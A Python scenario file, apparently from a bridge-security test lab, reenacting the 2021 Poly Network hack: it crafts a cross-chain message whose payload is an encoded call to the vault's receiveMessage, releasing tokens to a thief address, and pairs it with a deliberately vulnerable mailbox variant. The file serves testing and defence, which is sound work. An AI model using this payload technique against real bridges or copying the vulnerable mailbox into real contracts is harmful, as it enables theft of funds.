"""Poly: a message called the contract that kept the keepers' keys."""

from __future__ import annotations

from bridge.interoperable import encode_evm
from bridge.payloads import ReleaseMessage
from clearspan.lab.scenarios.banking import complete, speak, vault_of
from clearspan.lab.scenarios.base import Scenario, Stage, Twin, Verdict
from clearspan.lab.scenarios.moves import LOOT, Heist


def attack(stage: Stage) -> Verdict:
    """A message to the vault whose payload is the call that the vault takes from its mailbox alone."""
    with stage.world() as world:
        heist = Heist(world)
        complete(heist, LOOT, world.base.users[0])
        vault = vault_of(heist)
        outbox = encode_evm(heist.host.chain_id, heist.network.settlement.outbox)
        release = ReleaseMessage(withdrawal_id=1, asset=heist.token, amount=LOOT, recipient=heist.thief.address)
        call = vault.encode_abi("receiveMessage", [b"\x42" * 32, outbox, release.encode()])
        status = speak(heist, bytes.fromhex(call[2:]), heist.entry.vault)
        _, owed = heist.source.call(vault.functions.queued(heist.token, False))
        answer = status.name if status else "not answered"
        return Verdict(survived=owed == 0, detail=f"a call as a payload: {answer}; {owed} base units owed to the thief")


SCENARIO = Scenario(
    identifier="incident-42",
    title="A message's payload is a call to a contract of the bridge",
    group="C6",
    source="Poly, 10 Aug 2021, $611M",
    attack=attack,
    twin=Twin(
        mutation="the mailbox calls a recipient with the payload as it is",
        contracts=(("Mailbox", "mailbox-calls-payload"),),
    ),
)
